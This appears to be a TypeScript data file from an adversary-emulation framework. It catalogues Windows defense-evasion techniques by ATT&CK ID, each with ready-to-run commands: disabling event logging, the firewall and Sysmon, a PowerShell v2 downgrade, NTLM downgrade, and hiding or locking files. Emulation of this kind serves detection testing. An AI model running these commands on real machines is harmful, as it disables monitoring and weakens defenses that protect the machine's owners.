import { t, v } from "../dsl";

const EXPLORER_ADVANCED = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced";

/** Defense evasion, continued: event logging, command history, firewall, indicator blocking, safe mode, downgrade, hiding. */
export const defenseEvasion3C = [
  t("T1562.002", "Disable Windows event logging", "auditpol and EventLog service tampering.", [
    v(
      "auditpol",
      ['auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable', "auditpol /clear /y"],
      { elevated: true },
    ),
    v("sc-eventlog", ["sc config eventlog start= disabled", "net stop eventlog /y"], { elevated: true }),
    v(
      "reg-etw",
      [
        {
          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security" /v Start /t REG_DWORD /d 0 /f',
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security",
              "Start",
              "0",
              "REG_DWORD",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1562.003", "Impair command history logging", "PSReadLine history disabled or set to nothing.", [
    v("savenothing", [{ ps: "Set-PSReadLineOption -HistorySaveStyle SaveNothing" }], { shell: "ps" }),
    v(
      "scriptblocklogging-off",
      [
        {
          cmd: 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging" /v EnableScriptBlockLogging /t REG_DWORD /d 0 /f',
          reg: [
            [
              "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging",
              "EnableScriptBlockLogging",
              "0",
              "REG_DWORD",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1562.004",
    "Disable or modify system firewall",
    "netsh advfirewall off, rules opened for RDP/SMB, Set-NetFirewallProfile.",
    [
      v("netsh-off", ["netsh advfirewall set allprofiles state off"], { elevated: true }),
      v(
        "netsh-rule",
        [
          'netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=3389',
        ],
        { elevated: true },
      ),
      v(
        "set-netfirewallprofile",
        [{ ps: "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False" }],
        { shell: "ps", elevated: true },
      ),
    ],
  ),
  t("T1562.006", "Indicator blocking", "ETW providers or the Sysmon driver silenced.", [
    v(
      "logman-stop",
      [
        'logman update trace "EventLog-Application" --p "Microsoft-Windows-PowerShell" -ets',
        "logman stop EventLog-Security -ets",
      ],
      { elevated: true },
    ),
    v("fltmc-unload", ["fltmc unload SysmonDrv"], { elevated: true }),
  ]),
  t("T1562.009", "Safe mode boot", "bcdedit safeboot set so security tools do not start (ransomware).", [
    v(
      "bcdedit-safeboot",
      [
        "bcdedit /set {default} safeboot network",
        {
          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Network\\{{name}}" /ve /t REG_SZ /d Service /f',
          reg: [
            ["HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot\\Network\\{{name}}", "(Default)", "Service"],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1562.010", "Downgrade attack", "PowerShell version 2 to avoid script block logging.", [
    v("powershell-v2", [
      // The engine without AMSI or script block logging runs the operator's staged script.
      "powershell.exe -version 2 -nop -ep bypass -File {{tools}}\\{{rand}}.ps1",
    ]),
    v(
      "ntlm-downgrade",
      [
        {
          cmd: "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 2 /f",
          reg: [["HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa", "LmCompatibilityLevel", "2", "REG_DWORD"]],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1562.011", "Spoof security alerting", "Security Center state faked via registry.", [
    v(
      "reg-wscsvc",
      [
        {
          cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Security Center" /v AntiVirusDisableNotify /t REG_DWORD /d 1 /f',
          reg: [["HKLM\\SOFTWARE\\Microsoft\\Security Center", "AntiVirusDisableNotify", "1", "REG_DWORD"]],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1564", "Hide artifacts", "Files hidden with attrib +h +s.", [
    v("attrib", ["attrib +h +s {{appdata}}\\{{name}}.exe"]),
  ]),
  t(
    "T1564.001",
    "Hidden files and directories",
    "attrib +h +s on payloads and folders, hidden files kept out of Explorer, folders locked with icacls.",
    [
      v("attrib-hs", [
        "attrib.exe +h +s C:\\ProgramData\\{{rand}}",
        "attrib.exe +h +s C:\\ProgramData\\{{rand}}\\{{name}}.exe",
      ]),
      // Atomic T1564.001 "Hide Files Through Registry", as USB worms and droppers set it for the user.
      v("reg-hide-superhidden", [
        {
          cmd: `reg add ${EXPLORER_ADVANCED} /v ShowSuperHidden /t REG_DWORD /d 0 /f`,
          reg: [[EXPLORER_ADVANCED, "ShowSuperHidden", "0", "REG_DWORD"]],
        },
        {
          cmd: `reg add ${EXPLORER_ADVANCED} /v Hidden /t REG_DWORD /d 2 /f`,
          reg: [[EXPLORER_ADVANCED, "Hidden", "2", "REG_DWORD"]],
        },
      ]),
      v(
        "ps-attributes",
        [{ ps: "(Get-Item C:\\ProgramData\\{{rand}} -Force).Attributes = 'Hidden,System'" }],
        {
          shell: "ps",
        },
      ),
      // Loaders deny Everyone delete rights on their install folder so it cannot be listed or removed.
      v("icacls-deny", ['icacls "{{local}}\\{{name}}" /deny *S-1-1-0:(OI)(CI)(DE,DC)']),
    ],
  ),
];
